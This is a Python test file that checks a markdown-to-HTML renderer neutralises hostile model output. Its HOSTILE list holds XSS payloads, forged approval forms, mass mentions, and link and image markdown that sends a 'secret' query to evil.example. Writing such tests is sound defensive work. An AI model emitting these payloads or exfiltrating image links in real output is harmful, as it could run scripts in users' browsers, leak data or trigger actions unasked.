"""What the model writes is inert (T14, T15, row 83)."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.web.markdown import markdown_html

ALLOWED = frozenset("p h3 h4 h5 h6 ul ol li blockquote hr br em strong s code pre div span".split())  # noqa: SIM905
TABLE = frozenset({"table", "thead", "tbody", "tr", "th", "td"})
HOSTILE = [
    "<!channel> <!subteam^S1> <@U1> @everyone <@&1>",
    "[x](http://evil.example/?q=secret)",
    "![](http://evil.example/p.png?q=secret)",
    "![a](data:image/png;base64,AAAA)",
    "<https://evil.example/?q=1>",
    "https://evil.example/?q=1 www.evil.example",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,x)",
    "[x][1]\n\n[1]: http://evil.example 'title'",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "<iframe src=//evil.example></iframe>\n\n<style>*{display:none}</style>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|:-:|--:|\n| <b>x</b> | [x](//evil.example) |",
    '![x](y "onerror=alert(1)") &lt;script&gt; &#60;script&#62;',
    "<form action=/api/approvals/a1><button class=button-approve>",
    "# h1\n## h2\n###### h6",
    "\\<script\\>",
    "[[![x](a)](b)](c)",
    "1. a\n   ```\n   </pre>\n   ```",
]


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    def handle_data(self, data: str) -> None:
        self.text += data


def seen(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


def assert_inert(text: str) -> None:
    found = seen(markdown_html(text))

    assert found.tags <= ALLOWED | TABLE
    assert found.attributes <= {
        ("class", "link"),
        ("class", "link-url"),
        ("class", "code"),
        ("class", "code-language"),
        ("class", "table"),
        ("class", "as-written"),
        ("tabindex", "0"),
    } | {("start", value) for name, value in found.attributes if name == "start" and value.isdecimal()}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert(text: str) -> None:
    assert_inert(text)


@given(st.text(alphabet="<>[]()!`*_~#|-:&;\"'=/ \n\\abjs1.@\u202e", max_size=120))
def test_any_text_is_inert(text: str) -> None:
    assert_inert(text)


def test_a_link_shows_its_words_and_its_address() -> None:
    assert (
        seen(markdown_html("[the guide](http://evil.example/?q=1)")).text.strip()
        == "the guide (http://evil.example/?q=1)"
    )


def test_an_image_shows_its_words_and_its_address() -> None:
    assert (
        seen(markdown_html("![a cat](http://evil.example/cat.png)")).text.strip()
        == "a cat (http://evil.example/cat.png)"
    )


def test_raw_html_is_shown_as_text() -> None:
    assert seen(markdown_html("<b>x</b>")).text.strip() == "<b>x</b>"


def test_mentions_are_text() -> None:
    assert seen(markdown_html("<!channel> @everyone <@U1>")).text.strip() == "<!channel> @everyone <@U1>"


def test_layout_is_kept() -> None:
    html = markdown_html("# Title\n\n**bold** `code`\n\n- one\n\n```py\nx = 1\n```")

    assert "<h3>Title</h3>" in html
    assert "<strong>bold</strong> <code>code</code>" in html
    assert "<li>one</li>" in html
    assert '<span class="code-language">py</span>' in html


def test_very_long_text_is_shown_as_it_is() -> None:
    assert markdown_html("*x* " * 60_000).startswith('<p class="as-written">*x* ')


@pytest.mark.parametrize(
    "char", ["\u202e", "\u2066", "\u2028", "\U000e0041", "\x1b", "\x00", "\ufeff", "\ud800", "\u3164"]
)
def test_reordering_and_invisible_text_is_spelled_out_in_answers(char: str) -> None:
    assert char not in markdown_html(f"a{char}b")
